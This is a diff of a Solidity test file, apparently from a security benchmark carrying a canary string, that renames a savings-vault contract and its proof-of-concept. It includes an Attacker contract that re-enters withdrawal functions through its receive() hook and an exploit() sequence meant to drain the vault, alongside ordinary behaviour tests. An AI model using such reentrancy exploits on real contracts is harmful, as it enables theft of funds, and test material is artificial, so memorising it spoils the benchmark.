@@ -1,7 +1,7 @@
 // SPDX-License-Identifier: MPL-2.0
 pragma solidity 0.8.19;
 
-import "./PillarBoxSavings.sol";
+import "./SavingsVault.sol";
 
 // assay-canary-5c7c573a-ceae-4f87-9b82-c099a623cb81
 
@@ -9,62 +9,62 @@ interface Vm {
     function deal(address who, uint256 amount) external;
     function warp(uint256 time) external;
     function prank(address who) external;
-    function expectRevert(bytes4 reason) external;
+    function expectRevert(bytes calldata reason) external;
 }
 
 contract Attacker {
-    PillarBoxSavings internal office;
+    SavingsVault internal vault;
     uint256 internal again;
 
-    constructor(PillarBoxSavings office_) {
-        office = office_;
+    constructor(SavingsVault vault_) {
+        vault = vault_;
     }
 
     receive() external payable {
         uint256 plan = again;
         again = 0;
-        if (plan == 1) try office.drawInterest() {} catch {}
-        if (plan == 2) try office.collect() {} catch {}
+        if (plan == 1) try vault.withdrawInterest() {} catch {}
+        if (plan == 2) try vault.withdraw() {} catch {}
     }
 
     function first(address ada) external {
-        office.open();
-        office.save{value: 1}();
-        try office.open() {} catch {}
-        try office.nameHeir(address(this)) {} catch {}
-        try office.inherit(ada) {} catch {}
-        try office.inherit(address(0)) {} catch {}
-        try office.giveNotice(type(uint128).max) {} catch {}
+        vault.openAccount();
+        vault.deposit{value: 1}();
+        try vault.openAccount() {} catch {}
+        try vault.setNominee(address(this)) {} catch {}
+        try vault.takeOver(ada) {} catch {}
+        try vault.takeOver(address(0)) {} catch {}
+        try vault.giveNotice(type(uint128).max) {} catch {}
         for (uint256 i = 0; i < 5; ++i) {
-            try office.save{value: 0}() {} catch {}
-            try office.drawInterest() {} catch {}
+            try vault.deposit{value: 0}() {} catch {}
+            try vault.withdrawInterest() {} catch {}
         }
     }
 
     function tenYearsLater(address ada) external {
-        try office.inherit(ada) {} catch {}
-        try office.inherit(address(this)) {} catch {}
-        office.save{value: 90 ether}();
+        try vault.takeOver(ada) {} catch {}
+        try vault.takeOver(address(this)) {} catch {}
+        vault.deposit{value: 90 ether}();
         again = 1;
-        try office.drawInterest() {} catch {}
+        try vault.withdrawInterest() {} catch {}
         again = 0;
-        office.giveNotice(45 ether);
-        try office.collect() {} catch {}
-        try office.takeNoticeBack() {} catch {}
-        office.giveNotice(90 ether);
+        vault.giveNotice(45 ether);
+        try vault.withdraw() {} catch {}
+        try vault.cancelNotice() {} catch {}
+        vault.giveNotice(90 ether);
     }
 
     function nextWeek() external {
-        try office.takeNoticeBack() {} catch {}
-        try office.drawInterest() {} catch {}
-        office.giveNotice(90 ether);
+        try vault.cancelNotice() {} catch {}
+        try vault.withdrawInterest() {} catch {}
+        vault.giveNotice(90 ether);
     }
 
     function weekAfter() external {
         again = 2;
-        try office.collect() {} catch {}
+        try vault.withdraw() {} catch {}
         again = 1;
-        try office.drawInterest() {} catch {}
+        try vault.withdrawInterest() {} catch {}
     }
 }
 
@@ -73,125 +73,125 @@ contract Proof {
 
     address internal constant ADA = address(0xADA);
     address internal constant BEA = address(0xBEA);
-    PillarBoxSavings internal office;
-    Attacker internal magpie;
+    SavingsVault internal vault;
+    Attacker internal mallory;
 
     function setUp() public {
         vm.warp(1_700_000_000);
         vm.deal(address(this), 20 ether);
-        office = new PillarBoxSavings();
-        office.endow{value: 20 ether}();
-        magpie = new Attacker(office);
-        vm.deal(address(magpie), 100 ether);
+        vault = new SavingsVault();
+        vault.endow{value: 20 ether}();
+        mallory = new Attacker(vault);
+        vm.deal(address(mallory), 100 ether);
         vm.deal(ADA, 10 ether);
         vm.prank(ADA);
-        office.open();
+        vault.openAccount();
         vm.prank(ADA);
-        office.nameHeir(BEA);
+        vault.setNominee(BEA);
         vm.prank(ADA);
-        office.save{value: 10 ether}();
+        vault.deposit{value: 10 ether}();
     }
 
     function _try(bytes memory data) private returns (bool ok) {
-        (ok, ) = address(office).call(data);
+        (ok, ) = address(vault).call(data);
     }
 
     function test_Regular() public {
-        require(!_try(abi.encodeCall(office.save, ())), "no book");
+        require(!_try(abi.encodeCall(vault.deposit, ())), "no account");
         vm.warp(block.timestamp + 365 days + 5 hours);
-        require(office.interestOf(ADA) == 0.365 ether, "a year");
+        require(vault.interestOf(ADA) == 0.365 ether, "a year");
         vm.prank(ADA);
-        office.giveNotice(4 ether);
+        vault.giveNotice(4 ether);
         vm.warp(block.timestamp + 6 days);
         vm.prank(ADA);
-        require(!_try(abi.encodeCall(office.collect, ())), "on notice");
+        require(!_try(abi.encodeCall(vault.withdraw, ())), "on notice");
         vm.warp(block.timestamp + 1 days);
         vm.prank(ADA);
-        office.collect();
+        vault.withdraw();
         require(ADA.balance == 4 ether, "collected");
         vm.prank(ADA);
-        office.drawInterest();
-        require(ADA.balance == 4.3692 ether && office.reserve() == 19.6308 ether, "interest");
+        vault.withdrawInterest();
+        require(ADA.balance == 4.3692 ether && vault.reserve() == 19.6308 ether, "interest");
 
         vm.prank(BEA);
-        office.open();
+        vault.openAccount();
         vm.warp(block.timestamp + 1000 days);
         vm.prank(BEA);
-        require(!_try(abi.encodeCall(office.inherit, (ADA))), "not silent for long enough");
+        require(!_try(abi.encodeCall(vault.takeOver, (ADA))), "not silent for long enough");
         vm.prank(ADA);
-        office.giveNotice(1 ether);
+        vault.giveNotice(1 ether);
         vm.warp(block.timestamp + 1825 days);
         vm.prank(BEA);
-        office.inherit(ADA);
-        (uint128 saved, , uint128 earned, , , , ) = office.books(BEA);
-        require(saved == 6 ether && earned == 0.6 ether + 0.9125 ether, "inherited");
+        vault.takeOver(ADA);
+        (uint128 saved, , uint128 earned, , , , ) = vault.accounts(BEA);
+        require(saved == 6 ether && earned == 0.6 ether + 0.9125 ether, "taken over");
         vm.prank(ADA);
-        require(!_try(abi.encodeCall(office.drawInterest, ())), "book is gone");
+        require(!_try(abi.encodeCall(vault.withdrawInterest, ())), "account is gone");
         vm.prank(BEA);
-        office.drawInterest();
-        require(BEA.balance == 1.5125 ether, "paid to the heir");
+        vault.withdrawInterest();
+        require(BEA.balance == 1.5125 ether, "paid to the nominee");
 
         vm.deal(ADA, 1 ether);
         vm.prank(ADA);
-        office.open();
+        vault.openAccount();
         vm.prank(ADA);
-        office.save{value: 1 ether}();
+        vault.deposit{value: 1 ether}();
         vm.prank(ADA);
-        office.giveNotice(1 ether);
+        vault.giveNotice(1 ether);
         vm.prank(ADA);
-        office.takeNoticeBack();
-        (saved, , , , , , ) = office.books(ADA);
-        require(saved == 1 ether, "notice taken back");
+        vault.cancelNotice();
+        (saved, , , , , , ) = vault.accounts(ADA);
+        require(saved == 1 ether, "notice cancelled");
     }
 
     /// What the reserve still has for the interest of others.
     function forInterest() public view returns (uint256) {
-        return office.reserve();
+        return vault.reserve();
     }
 
     // What is refused, each from the state after setUp().
 
     /// The next call is made by who, and reverts for this reason.
-    function refuses(address who, bytes4 why) internal {
+    function refuses(address who, bytes memory why) internal {
         vm.prank(who);
         vm.expectRevert(why);
     }
 
-    /// Only who has a book does anything with it; nobody has two, or inherits from oneself.
-    function test_RefusesWithoutABook() public {
-        refuses(BEA, PillarBoxSavings.NotOpen.selector);
-        office.giveNotice(0);
-        refuses(BEA, PillarBoxSavings.NotOpen.selector);
-        office.takeNoticeBack();
-        refuses(BEA, PillarBoxSavings.NotOpen.selector);
-        office.collect();
-        refuses(BEA, PillarBoxSavings.NotOpen.selector);
-        office.nameHeir(ADA);
-        refuses(ADA, PillarBoxSavings.AlreadyOpen.selector);
-        office.open();
-        refuses(ADA, PillarBoxSavings.NotTheHeir.selector);
-        office.nameHeir(ADA);
+    /// Only who has an account uses one; nobody has two, or is their own nominee.
+    function test_RefusesWithoutAnAccount() public {
+        refuses(BEA, abi.encodeWithSelector(SavingsVault.NoAccount.selector, BEA));
+        vault.giveNotice(0);
+        refuses(BEA, abi.encodeWithSelector(SavingsVault.NoAccount.selector, BEA));
+        vault.cancelNotice();
+        refuses(BEA, abi.encodeWithSelector(SavingsVault.NoAccount.selector, BEA));
+        vault.withdraw();
+        refuses(BEA, abi.encodeWithSelector(SavingsVault.NoAccount.selector, BEA));
+        vault.setNominee(ADA);
+        refuses(ADA, abi.encodeWithSelector(SavingsVault.AccountExists.selector, ADA));
+        vault.openAccount();
+        refuses(ADA, abi.encodeWithSelector(SavingsVault.NotTheNominee.selector, ADA, ADA));
+        vault.setNominee(ADA);
         vm.warp(block.timestamp + 5 * 365 days);
-        refuses(BEA, PillarBoxSavings.NotOpen.selector);
-        office.inherit(ADA);
+        refuses(BEA, abi.encodeWithSelector(SavingsVault.NoAccount.selector, BEA));
+        vault.takeOver(ADA);
     }
 
     /// Who takes no ether is not paid.
     function test_RefusesFailedPayments() public {
-        vm.prank(address(office));
-        office.open();
-        refuses(address(office), PillarBoxSavings.NotPaid.selector);
-        office.collect();
+        vm.prank(address(vault));
+        vault.openAccount();
+        refuses(address(vault), bytes("Address: unable to send value, recipient may have reverted"));
+        vault.withdraw();
     }
 
     function exploit() public {
-        magpie.first(ADA);
+        mallory.first(ADA);
         vm.warp(block.timestamp + 3700 days);
-        magpie.tenYearsLater(ADA);
+        mallory.tenYearsLater(ADA);
         vm.warp(block.timestamp + 7 days);
-        magpie.nextWeek();
+        mallory.nextWeek();
         vm.warp(block.timestamp + 7 days);
-        magpie.weekAfter();
+        mallory.weekAfter();
     }
 
     function test_Exploit() public {
@@ -201,10 +201,10 @@ contract Proof {
     }
 
     function target() public view returns (address) {
-        return address(office);
+        return address(vault);
     }
 
     function attacker() public view returns (address) {
-        return address(magpie);
+        return address(mallory);
     }
 }
